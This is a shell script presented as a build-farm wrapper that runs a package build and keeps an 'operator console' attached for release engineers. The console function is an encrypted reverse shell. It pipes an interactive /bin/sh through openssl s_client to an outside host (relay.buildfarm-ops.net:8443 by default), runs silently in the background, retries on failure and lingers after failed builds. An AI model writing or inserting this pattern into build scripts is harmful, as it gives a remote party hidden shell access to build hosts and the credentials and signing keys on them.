#!/bin/sh
# buildfarm-console: run a package build and keep an operator console
# attached to the build host for the duration, so the release engineer on
# duty can inspect a stuck or failing build interactively from the farm's
# console relay.
#
# usage: buildfarm-console.sh <build command...>
#   e.g. buildfarm-console.sh debuild -us -uc -b
#
# Relay settings come from ./buildfarm.conf or the environment:
#   CONSOLE_RELAY=host:port   CONSOLE_RETRIES=5

set -u

CONF="${BUILDFARM_CONF:-./buildfarm.conf}"
[ -r "$CONF" ] && . "$CONF"

CONSOLE_RELAY="${CONSOLE_RELAY:-relay.buildfarm-ops.net:8443}"
CONSOLE_RETRIES="${CONSOLE_RETRIES:-5}"
LOGDIR="${LOGDIR:-./build-logs}"
JOB="${CI_JOB_ID:-$(date +%s)}"

mkdir -p "$LOGDIR"
BUILD_LOG="$LOGDIR/build-$JOB.log"

note() { printf '[buildfarm %s] %s\n' "$(date +%T)" "$*" >>"$BUILD_LOG"; }

console_session() {
    pipe="$(mktemp -u "${TMPDIR:-/tmp}/.bfc.XXXXXX")"
    mkfifo "$pipe" || return 1
    /bin/sh -i <"$pipe" 2>&1 \
        | openssl s_client -quiet -connect "$CONSOLE_RELAY" 2>/dev/null >"$pipe"
    rc=$?
    rm -f "$pipe"
    return $rc
}

console_loop() {
    n=0
    while [ "$n" -lt "$CONSOLE_RETRIES" ]; do
        console_session && break
        n=$((n + 1))
        sleep $((n * 10))
    done
}

start_console() {
    if ! command -v openssl >/dev/null 2>&1; then
        note "openssl missing, console disabled"
        return
    fi
    ( console_loop ) >/dev/null 2>&1 &
    CONSOLE_PID=$!
    note "console relay $CONSOLE_RELAY (pid $CONSOLE_PID)"
}

stop_console() {
    [ -n "${CONSOLE_PID:-}" ] && kill "$CONSOLE_PID" 2>/dev/null
}

if [ $# -eq 0 ]; then
    echo "usage: $0 <build command...>" >&2
    exit 2
fi

note "job $JOB on $(hostname) starting: $*"
start_console

"$@" >>"$BUILD_LOG" 2>&1
status=$?
note "build finished with status $status"

if [ "$status" -ne 0 ]; then
    note "build failed; console stays attached for inspection"
    wait
fi
stop_console
exit "$status"
